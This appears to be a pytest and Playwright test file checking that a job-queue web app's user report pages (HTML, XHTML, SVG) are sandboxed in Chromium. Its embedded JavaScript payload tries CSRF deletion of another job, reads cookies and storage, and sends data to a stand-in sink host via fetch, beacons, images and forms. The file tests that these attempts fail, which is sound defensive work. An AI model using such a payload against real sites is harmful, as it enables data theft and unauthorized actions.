"""Files of jobs in a real Chromium: a hostile report shows its pictures and reaches nothing."""

from __future__ import annotations

import contextlib
import struct
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.fakes.web_server import listening
from tests.web.browser import a_tab
from tests.web.jobs import Shown, fill, shown_queue
from tests.web.served import digest_of

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = [pytest.mark.live, pytest.mark.slow]

WIDTH, HEIGHT = 3, 2
TRIES = """
const told = {};
async function attempt(what, deed) {
  try { told[what] = String(await deed()); } catch (error) { told[what] = 'refused'; }
}
async function everything() {
  const form = {method: 'POST', headers: {'Content-Type': 'application/x-www-form-urlencoded'},
                body: 'job=VICTIM', credentials: 'include', mode: 'no-cors'};
  await attempt('fetch deed', () => fetch('/do/rm', form));
  await attempt('fetch data', () => fetch('/api/v1/summary').then((r) => r.text()));
  await attempt('fetch away', () => fetch('SINK/fetch', {mode: 'no-cors'}));
  await attempt('request', () => new Promise((yes, no) => {
    const request = new XMLHttpRequest();
    request.onload = yes; request.onerror = no;
    request.open('POST', 'SINK/xhr'); request.send('x');
  }));
  await attempt('events', () => new Promise((yes, no) => {
    const events = new EventSource('SINK/events'); events.onopen = yes; events.onerror = no;
  }));
  await attempt('beacon', () => { navigator.sendBeacon('SINK/beacon', 'x'); return 'sent'; });
  await attempt('beacon here', () => { navigator.sendBeacon('/do/rm', 'job=VICTIM'); return ''; });
  await attempt('picture away', () => new Promise((yes, no) => {
    const image = new Image(); image.onload = yes; image.onerror = no; image.src = 'SINK/image';
  }));
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('window', () => window.open('SINK/window') ? 'opened' : 'none');
  for (const action of ['SINK/form', '/do/rm']) {
    await attempt('form ' + action, () => {
      const form = document.createElementNS('http://www.w3.org/1999/xhtml', 'form');
      form.setAttribute('method', 'post'); form.setAttribute('action', action);
      const field = document.createElementNS('http://www.w3.org/1999/xhtml', 'input');
      field.setAttribute('name', 'job'); field.setAttribute('value', 'VICTIM');
      form.append(field); document.documentElement.append(form); form.submit(); return 'sent';
    });
  }
  document.documentElement.setAttribute('data-told', JSON.stringify(told));
}
everything();
"""
HTML = """<!DOCTYPE html><html><head><link rel="stylesheet" href="sub/style.css"></head>
<body><h1>Results</h1><img id="picture" src="sub/picture.png"><iframe src="/QM"></iframe>
<script src="tries.js"></script></body></html>"""
XHTML = """<html xmlns="http://www.w3.org/1999/xhtml"><head><title>r</title>
<link rel="stylesheet" href="sub/style.css"/></head><body><h1>Results</h1>
<img id="picture" src="sub/picture.png"/><script src="tries.js"></script></body></html>"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<rect width="9" height="9"/><script xlink:href="tries.js"/></svg>"""


def png() -> bytes:
    """A picture of WIDTH by HEIGHT pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", WIDTH, HEIGHT, 8, 0, 0, 0, 0)
    pixels = zlib.compress((b"\0" + b"\x80" * WIDTH) * HEIGHT)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


@contextlib.contextmanager
def a_sink() -> Iterator[tuple[str, list[str]]]:
    """Somebody else's server, which takes whatever it gets; its address, and what came."""
    came: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            came.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def do_POST(self) -> None:
            self.do_GET()

        do_OPTIONS = do_POST  # noqa: N815 - http.server calls it so.

        def log_message(self, *_: Any) -> None:
            pass

    with listening(Handler) as port:
        yield f"http://127.0.0.1:{port}", came


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shown]:
    with shown_queue(tmp_path_factory.mktemp("browser")) as opened:
        yield opened


@contextlib.contextmanager
def logged_in(browser: Browser, shown: Shown) -> Iterator[Page]:
    """A tab of an operator. It may complain: that is the point."""
    context = browser.new_context(base_url=shown.page.origin, accept_downloads=True)
    try:
        name, _, value = shown.visitor.headers["Cookie"].partition("=")
        context.add_cookies([{"name": name, "value": value, "url": shown.page.origin}])
        yield context.new_page()
    finally:
        context.close()


def hostile_job(shown: Shown, sink: str, victim: int) -> Path:
    """A job whose reports try everything against another job, and to tell the sink."""
    _, folder = shown.ended("hostile")
    tries = TRIES.replace("SINK", sink).replace("VICTIM", str(victim))
    fill(folder, **{"tries.js": tries.encode(), "results.html": HTML.encode()})
    fill(folder, **{"x.xhtml": XHTML.encode(), "p.svg": SVG.encode()})
    style = b"h1 { color: rgb(1, 2, 3) }"
    fill(folder / "sub", **{"style.css": style, "picture.png": png()})
    return folder


@pytest.mark.parametrize("report", ["results.html", "x.xhtml", "p.svg"])
def test_a_hostile_report_is_shown_and_reaches_nothing(
    browser: Browser, shown: Shown, report: str
) -> None:
    victim, folder = shown.ended("victim")
    before = digest_of(folder)
    with a_sink() as (sink, came), logged_in(browser, shown) as page:
        hostile_job(shown, sink, victim)
        page.goto(f"{shown.files('hostile')}/{report}")
        assert "/s/" in page.url
        page.wait_for_function("document.documentElement.hasAttribute('data-told')")
        told = page.evaluate("JSON.parse(document.documentElement.getAttribute('data-told'))")
        refused = ["fetch deed", "fetch data", "fetch away", "request", "events", "picture away"]
        assert {what: told[what] for what in [*refused, "cookie", "storage"]} == dict.fromkeys(
            [*refused, "cookie", "storage"], "refused"
        )
        assert told["window"] == "none"
        assert "/s/" in page.url, "a form has led elsewhere"
        if report != "p.svg":
            shape = "(({naturalWidth, naturalHeight}) => [naturalWidth, naturalHeight])"
            assert page.evaluate(f"{shape}(document.getElementById('picture'))") == [WIDTH, HEIGHT]
            color = "getComputedStyle(document.querySelector('h1')).color"
            assert page.evaluate(color) == "rgb(1, 2, 3)"
        # Our own pages work in this browser, so it was not merely cut off.
        page.goto("/QM")
        assert page.locator("#main h1").count() == 1
        page.goto(f"{sink}/proof")
        assert [one for one in came if "favicon" not in one] == ["GET /proof"]
    assert folder.exists() and digest_of(folder) == before
    assert (shown.queue.row("victim") or {})["state"] == "FINISHED"


def test_our_pages_are_not_framed_by_a_report(browser: Browser, shown: Shown) -> None:
    with a_sink() as (sink, _), logged_in(browser, shown) as page:
        hostile_job(shown, sink, 0)
        page.goto(f"{shown.files('hostile')}/results.html")
        page.wait_for_function("document.documentElement.hasAttribute('data-told')")
        frames = [frame for frame in page.frames if frame != page.main_frame]
        assert all(frame.url.startswith(("chrome-error:", "about:")) for frame in frames)


def test_text_and_pictures_are_seen_and_others_are_saved(browser: Browser, shown: Shown) -> None:
    _, folder = shown.ended("plain")
    name = "é \N{TEST TUBE} 100%;\"x'.npz"
    fill(folder, **{"a.txt": b"<b>plain</b>", "p.png": png(), name: b"PK\0\1"})
    with logged_in(browser, shown) as page:
        page.goto(shown.files("plain"))
        page.get_by_role("link", name="a.txt").click()
        assert page.locator("body").inner_text() == "<b>plain</b>"
        page.goto(f"{shown.files('plain')}/p.png")
        assert page.evaluate("document.images[0].naturalWidth") == WIDTH
        page.goto(shown.files("plain"))
        with page.expect_download() as saving:
            page.get_by_role("link", name="npz").click()
        assert saving.value.suggested_filename == name.replace('"', "_")
        assert Path(saving.value.path()).read_bytes() == b"PK\0\1"
        page.goto(shown.files("plain"))
        with page.expect_download() as saving:
            page.get_by_role("link", name="Download zip").click()
        assert saving.value.suggested_filename == "plain.zip"


@pytest.mark.parametrize(
    "look", [{}, {"color_scheme": "dark"}, {"viewport": {"width": 390, "height": 800}}]
)
def test_the_list_of_files_fits_and_can_be_used_by_all(
    browser: Browser, shown: Shown, look: dict[str, Any]
) -> None:
    _, folder = shown.ended("list")
    fill(folder / "sub", **{"x" * 200: b"1", "a.txt": bytes(123456), "r.html": b""})
    with a_tab(browser, shown.page, shown.visitor, **look) as tab:
        for path in (shown.files("list"), f"{shown.files('list')}/sub", "/QM_dJobs/2016_old/"):
            if path.startswith("/QM_dJobs"):
                fill(shown.queue.folder / "QM_dJobs" / "2016_old", **{"a.txt": b""})
            tab.page.goto(path)
            assert tab.overflow() <= 0
            assert tab.axe() == []
